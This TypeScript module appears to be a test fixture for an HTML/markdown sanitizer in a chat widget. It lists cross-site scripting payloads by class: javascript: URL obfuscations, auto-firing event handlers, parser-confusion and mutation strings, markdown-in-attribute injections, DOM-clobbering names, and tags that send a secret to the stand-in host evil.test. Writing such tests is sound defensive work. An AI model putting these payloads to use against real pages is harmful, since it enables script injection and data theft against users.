/**
 * Answers that attack the page, by class. A script that runs calls `alert`; a request that leaves goes to `evil.test`.
 * None of these may do either, whatever else is made of them.
 */
const RUN = 'alert(1)';
const CALL = 'https://evil.test/?secret';

/** Attributes that run their value. */
export const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerenter'];
const URL_SCHEMES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java&#10;script:${RUN}`, `java&Tab;script:${RUN}`, `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`, `javascript&colon;${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:${RUN}`,
  `data:image/svg+xml,<svg onload=${RUN}>`, `feed:javascript:${RUN}`, `view-source:javascript:${RUN}`, `blob:${RUN}`,
];
const AUTO_TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'iframe', 'input autofocus', 'details open', 'marquee', 'object data=x', 'embed src=x', 'link rel=stylesheet href=x', 'style', 'math', 'select autofocus', 'textarea autofocus', 'keygen autofocus', 'image src=x'];

export const HOSTILE: Record<string, readonly string[]> = {
  'links in markdown': URL_SCHEMES.flatMap((url) => [`[x](<${url}>)`, `[x](${url})`, `<${url}>`, `[x]\n\n[x]: ${url}`, `![x](${url})`]),
  'links in HTML': URL_SCHEMES.flatMap((url) => [`<a href="${url}">x</a>`, `<a href='${url}' target=_top>x</a>`, `<form action="${url}"><button>x</button></form>`, `<iframe src="${url}"></iframe>`]),
  'handlers': HANDLERS.flatMap((handler) => AUTO_TAGS.map((tag) => `<${tag} ${handler}=${RUN}>`)),
  'handlers, badly written': [
    `<img src=x onerror=${RUN}//`, `<img/src=x/onerror=${RUN}>`, `<img src=x\nonerror\n=\n${RUN}>`, `<IMG SRC=x OnErRoR=${RUN}>`,
    `<img src=x onerror="&#97;lert(1)">`, `<img """><script>${RUN}</script>">`, `<svg><a/onclick=${RUN}><text>x`, `<svg/onload=${RUN}`,
    `<<script>${RUN}//<</script>`, `<img src="x" alt="\`" onerror=${RUN} "\`">`, `<a title="\n\n" onmouseover=${RUN}>x</a>`,
    `<div title="\n\n<img src=x onerror=${RUN}>">`, `<p title="</p><img src=x onerror=${RUN}>">`, `<x onclick=${RUN}>x</x>`,
  ],
  'scripts': [
    `<script>${RUN}</script>`, `<script src=${CALL}></script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</script>`,
    `<svg><script>${RUN}</script></svg>`, `<svg><script href=data:,${RUN} />`, `<math><script>${RUN}</script></math>`,
    `<script type=module>${RUN}</script>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<iframe srcdoc="<script>parent.${RUN}</script>">`,
    `<object data="data:text/html,<script>${RUN}</script>">`, `<embed src="data:text/html,<script>${RUN}</script>">`, `<base href="https://evil.test/">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<template><script>${RUN}</script></template>`, `<portal src=${CALL}>`,
  ],
  'parsers that disagree': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`, `<noembed><img src="</noembed><img src=x onerror=${RUN}>">`,
    `<xmp><img src="</xmp><img src=x onerror=${RUN}>">`, `<textarea><img src="</textarea><img src=x onerror=${RUN}>">`,
    `<title><img src="</title><img src=x onerror=${RUN}>">`, `<style><img src="</style><img src=x onerror=${RUN}>">`,
    `<!--><img src=x onerror=${RUN}>-->`, `<!-- --!><img src=x onerror=${RUN}> -->`, `<![CDATA[><img src=x onerror=${RUN}>]]>`, `<?php ><img src=x onerror=${RUN}> ?>`,
    `<table><td><form><table></table><img src=x onerror=${RUN}></form>`, `<select><style></select><img src=x onerror=${RUN}></style>`,
    `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
  ],
  'code that is none': [
    `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``, `\`\`\`<script>${RUN}</script>\n\`\`\``, `    <img src=x onerror=${RUN}>`, `\`<img src=x onerror=${RUN}>\``,
    `\`\`\`js" onmouseover="${RUN}\ncode\n\`\`\``,
  ],
  'markdown inside attributes': [
    `[x](https://a.test "title\\" onmouseover=${RUN}")`, `![x" onerror="${RUN}](https://evil.test/a.png)`, `[x](https://a.test/"onmouseover=${RUN})`,
    `<a href="https://a.test" title="[x](javascript:${RUN})">y</a>`, `**<img src=x onerror=${RUN}>**`, `[<img src=x onerror=${RUN}>](https://a.test)`,
    `| a |\n|---|\n| <img src=x onerror=${RUN}> |`, `- <img src=x onerror=${RUN}>`, `> <script>${RUN}</script>`, `# <svg onload=${RUN}>`,
  ],
  'requests': [
    `![x](${CALL})`, `![x][r]\n\n[r]: ${CALL}`, `<img src="${CALL}">`, `<img srcset="${CALL} 1x">`, `<picture><source srcset="${CALL}"><img></picture>`,
    `<video poster="${CALL}"></video>`, `<audio src="${CALL}" autoplay></audio>`, `<iframe src="${CALL}"></iframe>`, `<object data="${CALL}"></object>`,
    `<embed src="${CALL}">`, `<link rel=stylesheet href="${CALL}">`, `<link rel=preload as=image href="${CALL}">`, `<link rel=prefetch href="${CALL}">`,
    `<link rel=dns-prefetch href="//evil.test">`, `<style>@import "${CALL}";</style>`, `<p style="background:url(${CALL})">x</p>`, `<table background="${CALL}"><tr><td>x</table>`,
    `<body background="${CALL}">`, `<svg><image href="${CALL}"/></svg>`, `<svg><use href="${CALL}#x"/></svg>`, `<input type=image src="${CALL}">`, `<a ping="${CALL}" href="https://a.test">x</a>`,
    `<form action="${CALL}"><input type=submit></form>`, `<meta http-equiv=refresh content="0;url=${CALL}">`, `<base href="https://evil.test/"><img src=x>`,
    `<track src="${CALL}">`, `<bgsound src="${CALL}">`, `<blockquote cite="${CALL}">x</blockquote>`, `<script src="${CALL}"></script>`, `<fetch-me src="${CALL}"></fetch-me>`,
  ],
  'names that take the place of others': [
    '<a id=location href=https://a.test>x</a>', '<img name=body>', '<form name=cookie><input name=attributes></form>', '<div id=letta-chat class=panel part=launcher slot=x>x</div>',
    '<p style="position:fixed;inset:0">x</p>', '<style>*{display:none}</style>', '<div popover=manual id=p>x</div><button popovertarget=p>y</button>', '<dialog open>x</dialog>',
    '<letta-chat token-url=https://evil.test></letta-chat>', '<slot></slot>', '<p contenteditable>x</p>', '<p is=x-y>x</p>',
  ],
};
